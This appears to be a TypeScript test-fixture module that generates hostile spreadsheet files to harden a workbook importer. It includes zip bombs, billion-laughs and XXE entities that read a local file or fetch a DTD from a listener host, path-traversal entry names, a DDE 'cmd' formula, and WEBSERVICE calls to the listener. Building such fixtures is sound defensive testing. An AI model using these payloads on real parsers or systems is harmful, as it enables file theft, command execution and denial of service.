/** Workbooks of the new format that want to hurt: too much of something, or what no spreadsheet writes. */

import { bomb, type Part, stored, zip } from "./zip.js";

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships";
const MIB = 1 << 20;

const SHEET = "xl/worksheets/sheet1.xml";
const OPEN = `<worksheet xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheetData>`;
const CLOSE = "</sheetData></worksheet>";

/** Offers that nobody could object to, so that it is the other thing that decides. */
export const HONEST =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>Intitulé</t></is></c><c r="B1" t="inlineStr"><is><t>Organisme</t></is></c></row>' +
  '<row r="2"><c r="A2" t="inlineStr"><is><t>Animer</t></is></c><c r="B2" t="inlineStr"><is><t>Les Mots Dits</t></is></c></row>';

const text = (at: string, words: string) => `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`;
const sheet = (rows: string, after = ""): Part => ({
  name: SHEET,
  content: `${OPEN}${rows}</sheetData>${after}</worksheet>`,
});

function relations(lines: readonly (readonly [kind: string, target: string])[], external = false): string {
  const mode = external ? ' TargetMode="External"' : "";
  const each = lines.map(
    ([kind, target], at) =>
      `<Relationship Id="r${at + 1}" Type="${OFFICE}/${kind}" Target="${target}"${mode}/>`,
  );
  return `<Relationships xmlns="${PACKAGE}">${each.join("")}</Relationships>`;
}

/** The parts around the sheets. */
function around(sheets = 1, more: readonly (readonly [string, string])[] = []): Part[] {
  const numbers = Array.from({ length: sheets }, (_, at) => at + 1);
  const list = numbers.map((n) => `<sheet name="S${n}" sheetId="${n}" r:id="r${n}"/>`);
  const targets = numbers.map((n) => ["worksheet", `worksheets/sheet${n}.xml`] as const);
  return [
    {
      name: "xl/workbook.xml",
      content: `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets>${list.join("")}</sheets></workbook>`,
    },
    { name: "xl/_rels/workbook.xml.rels", content: relations([...targets, ...more]) },
    { name: "_rels/.rels", content: relations([["officeDocument", "xl/workbook.xml"]]) },
  ];
}

/** The parts around one honest sheet, for whoever makes its rows. */
export const partsAround = (more: readonly (readonly [string, string])[]): Part[] => around(1, more);

const book = (...parts: Part[]) => zip([...parts, ...around()]);
const withTexts = (...parts: Part[]) =>
  zip([...parts, ...around(1, [["sharedStrings", "sharedStrings.xml"]])]);
const withStyles = (...parts: Part[]) => zip([...parts, ...around(1, [["styles", "styles.xml"]])]);

const a = (length: number) => "a".repeat(length);

/** Too much of something. */
export function excesses(): Record<string, () => Buffer> {
  const cells = '<c r="A1"><v>1</v></c>'.repeat(40_000);
  return {
    "bomb-of-text.xlsx": () =>
      book(
        bomb(
          SHEET,
          `${OPEN}<row r="1"><c r="A1" t="inlineStr"><is><t>`,
          a(MIB),
          2_048,
          `</t></is></c></row>${CLOSE}`,
        ),
      ),
    "bomb-of-cells.xlsx": () => book(bomb(SHEET, `${OPEN}<row r="1">`, cells, 2_400, `</row>${CLOSE}`)),
    "bomb-of-shared-texts.xlsx": () =>
      withTexts(
        bomb("xl/sharedStrings.xml", `<sst xmlns="${MAIN}">`, `<si><t>${a(MIB)}</t></si>`, 1_024, "</sst>"),
        sheet(HONEST),
      ),
    "bomb-of-spaces.xlsx": () => book(bomb(SHEET, OPEN, " ".repeat(MIB), 4_000, CLOSE)),
    "bomb-in-the-workbook-part.xlsx": () =>
      zip([
        bomb("xl/workbook.xml", `<workbook xmlns="${MAIN}"><!--`, a(MIB), 900, "--></workbook>"),
        sheet(HONEST),
        ...around().slice(1),
      ]),
    "many-parts-that-add-up.xlsx": () => {
      const parts = [1, 2, 3].map((n) => ({
        name: `xl/worksheets/sheet${n}.xml`,
        content: `${OPEN}${" ".repeat(60 * MIB)}${HONEST}${CLOSE}`,
      }));
      return zip([...parts, ...around(3)]);
    },
    "styles-of-60-mb.xlsx": () =>
      withStyles(
        bomb(
          "xl/styles.xml",
          `<styleSheet xmlns="${MAIN}"><cellXfs>`,
          '<xf numFmtId="0"/>'.repeat(10_000),
          330,
          "</cellXfs></styleSheet>",
        ),
        sheet(HONEST),
      ),
    "first-and-last-corner.xlsx": () =>
      book(
        sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
      ),
    "60000-wide-rows.xlsx": () => {
      const rows = Array.from(
        { length: 60_000 },
        (_, at) => `<row r="${at + 1}"><c r="XFD${at + 1}"><v>1</v></c></row>`,
      );
      return book(sheet(rows.join("")));
    },
    "one-text-10000-times.xlsx": () => {
      const shown = Array.from(
        { length: 10_000 },
        (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`,
      );
      const long = `<sst xmlns="${MAIN}" count="10000" uniqueCount="1"><si><t>${a(MIB)}</t></si></sst>`;
      return withTexts({ name: "xl/sharedStrings.xml", content: long }, sheet(shown.join("")));
    },
    "64-kib-text-10000-times.xlsx": () => {
      const shown = Array.from(
        { length: 10_000 },
        (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`,
      );
      const long = `<sst xmlns="${MAIN}" count="10000" uniqueCount="1"><si><t>${a(65_000)}</t></si></sst>`;
      return withTexts({ name: "xl/sharedStrings.xml", content: long }, sheet(shown.join("")));
    },
    "300-sheets.xlsx": () => {
      const parts = Array.from({ length: 300 }, (_, at) => ({
        name: `xl/worksheets/sheet${at + 1}.xml`,
        content: `${OPEN}${HONEST}${CLOSE}`,
      }));
      return zip([...parts, ...around(300)]);
    },
    "60000-parts.xlsx": () =>
      zip([
        ...Array.from({ length: 60_000 }, (_, at) => stored(`xl/media/${at}.png`, "")),
        sheet(HONEST),
        ...around(),
      ]),
    "500000-merges.xlsx": () =>
      book(sheet(HONEST, `<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(500_000)}</mergeCells>`)),
    "links-over-everything.xlsx": () =>
      zip([
        sheet(
          HONEST,
          `<hyperlinks>${'<hyperlink ref="A1:XFD1048576" r:id="r1"/>'.repeat(50_000)}</hyperlinks>`,
        ),
        {
          name: "xl/worksheets/_rels/sheet1.xml.rels",
          content: relations([["hyperlink", "https://exemple.fr"]], true),
        },
        ...around(),
      ]),
  };
}

/** What no spreadsheet writes. */
export function lies(canary: string, listener: string): Record<string, () => Buffer> {
  const entity = (declared: string, used: string) =>
    book({
      name: SHEET,
      content: `<?xml version="1.0"?><!DOCTYPE x [${declared}]>${OPEN}<row r="1">${text("A1", used)}</row>${CLOSE}`,
    });
  const laughs = Array.from(
    { length: 10 },
    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  ).join("");
  return {
    "a-thousand-million-laughs.xlsx": () => entity(`<!ENTITY l0 "ha">${laughs}`, "&l10;"),
    "entity-of-a-file.xlsx": () => entity(`<!ENTITY x SYSTEM "file://${canary}">`, "&x;"),
    "entity-of-the-net.xlsx": () => entity(`<!ENTITY % x SYSTEM "${listener}/dtd"> %x;`, "a"),
    "entity-that-nobody-declared.xlsx": () => book(sheet(`<row r="1">${text("A1", "&passwd;")}</row>`)),
    "false-count-4000000000.xlsx": () =>
      withTexts(
        {
          name: "xl/sharedStrings.xml",
          content: `<sst xmlns="${MAIN}" uniqueCount="4000000000"><si><t>x</t></si></sst>`,
        },
        sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
      ),
    "false-count-900000000.xlsx": () =>
      withTexts(
        {
          name: "xl/sharedStrings.xml",
          content: `<sst xmlns="${MAIN}" count="900000000"><si><t>x</t></si></sst>`,
        },
        sheet('<row r="1"><c r="A1" t="s"><v>899999999</v></c></row>'),
      ),
    "cell-beyond-all-columns.xlsx": () =>
      book(sheet('<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>')),
    "row-zero.xlsx": () => book(sheet('<row r="0"><c r="A0"><v>1</v></c></row>')),
    "not-utf8.xlsx": () =>
      book({
        name: SHEET,
        content: Buffer.concat([Buffer.from(OPEN), Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28])]),
      }),
    "cut-in-half.xlsx": () => {
      const whole = book(sheet(HONEST.repeat(400)));
      return whole.subarray(0, whole.length / 2);
    },
    "without-its-list.xlsx": () => {
      const whole = book(sheet(HONEST));
      return whole.subarray(0, whole.indexOf("PK\x01\x02", 0, "latin1"));
    },
    "wrong-sum.xlsx": () => book({ ...sheet(HONEST), sum: 0xdeadbeef }),
    "says-10-bytes-gives-30-mb.xlsx": () => book({ ...sheet(HONEST + " ".repeat(30 * MIB)), size: 10 }),
    "all-parts-are-one.xlsx": () =>
      zip([
        sheet(`${HONEST}${" ".repeat(20 * MIB)}`),
        ...Array.from({ length: 400 }, (_, at) => ({
          name: `xl/worksheets/sheet${at + 2}.xml`,
          packed: Buffer.alloc(0),
          at: 0,
        })),
        ...around(401),
      ]),
    "packed-by-nobody-knows.xlsx": () => book({ ...sheet(HONEST), method: 99 }),
    "encrypted-parts.xlsx": () => zip([sheet(HONEST), ...around()].map((part) => ({ ...part, flags: 1 }))),
    "two-of-one-name.xlsx": () =>
      zip([sheet(HONEST), sheet(`${HONEST}<row r="3">${text("A3", "l'autre")}</row>`), ...around()]),
    "target-outside.xlsx": () =>
      zip([
        ...around().slice(0, 1),
        {
          name: "xl/_rels/workbook.xml.rels",
          content: relations([["worksheet", `../../../../../../..${canary}`]]),
        },
        ...around().slice(2),
      ]),
    "a-book-in-a-book.xlsx": () => {
      let inner = book(sheet(HONEST));
      for (let depth = 0; depth < 6; depth += 1) inner = zip([stored("classeur.xlsx", inner)]);
      return inner;
    },
    "binary.xlsb": () =>
      zip([{ name: "xl/workbook.bin", content: Buffer.alloc(500, 7) }, ...around().slice(1)]),
    "macros.xlsm": () =>
      zip([sheet(HONEST), { name: "xl/vbaProject.bin", content: Buffer.alloc(5_000, 7) }, ...around()]),
    "text-document.docx": () =>
      zip([
        { name: "word/document.xml", content: "<document/>" },
        { name: "[Content_Types].xml", content: "<Types/>" },
      ]),
  };
}

/** What looks bad, harms nobody and is read. */
export function harmless(canary: string, listener: string): Record<string, () => Buffer> {
  return {
    "numbers-that-are-none.xlsx": () =>
      book(
        sheet(
          `${HONEST}<row r="3">${text("A3", "Nombres")}<c r="B3"><v>1e999</v></c><c r="C3"><v>NaN</v></c><c r="D3"><v>--1</v></c><c r="E3" t="b"><v>7</v></c><c r="F3" t="zz"><v>?</v></c></row>`,
        ),
      ),
    "a-formula-of-parentheses.xlsx": () => {
      const deep = `HYPERLINK(${"(".repeat(30_000)}"x"${")".repeat(30_000)},"y")`;
      return book(
        sheet(
          `${HONEST}<row r="3">${text("A3", "Formule")}<c r="B3" t="str"><f>${deep}</f><v>y</v></c></row>`,
        ),
      );
    },
    "a-million-levels.xlsx": () =>
      book(sheet(`<row r="1">${"<x>".repeat(1_000_000)}${"</x>".repeat(1_000_000)}</row>`)),
    "an-attribute-of-40-mb.xlsx": () => book(sheet(`<row r="1" spans="${a(40 * MIB)}"></row>`)),
    "says-4-gb-gives-little.xlsx": () => book({ ...sheet(HONEST), size: 0xffff_fffe }),
    "names-that-climb.xlsx": () =>
      zip([
        sheet(HONEST),
        { name: "../../../../../../tmp/tablee-escaped", content: "x" },
        { name: canary, content: "x" },
        { name: "C:\\windows\\x", content: "x" },
        ...around(),
      ]),
    "links-to-other-books.xlsx": () =>
      zip([
        sheet(
          `${HONEST}<row r="3">${text("A3", "Ailleurs")}<c r="B3" t="str"><f>[1]Feuille!A1</f><v>x</v></c><c r="C3" t="str"><f>WEBSERVICE("${listener}/cell")</f><v>y</v></c></row>`,
        ),
        { name: "xl/externalLinks/externalLink1.xml", content: `<externalLink xmlns="${MAIN}"/>` },
        {
          name: "xl/externalLinks/_rels/externalLink1.xml.rels",
          content: relations([["externalLinkPath", `${listener}/book.xlsx`]], true),
        },
        ...around(1, [["externalLink", "externalLinks/externalLink1.xml"]]),
      ]),
    "command-in-a-cell.xlsx": () =>
      book(sheet(`${HONEST}<row r="3">${text("A3", "=cmd|'/C calc'!A0")}${text("B3", "@SUM(1+1)")}</row>`)),
    "dimension-of-everything.xlsx": () =>
      book({
        name: SHEET,
        content: `<worksheet xmlns="${MAIN}"><dimension ref="A1:XFD1048576"/><sheetData>${HONEST}${CLOSE}`,
      }),
  };
}
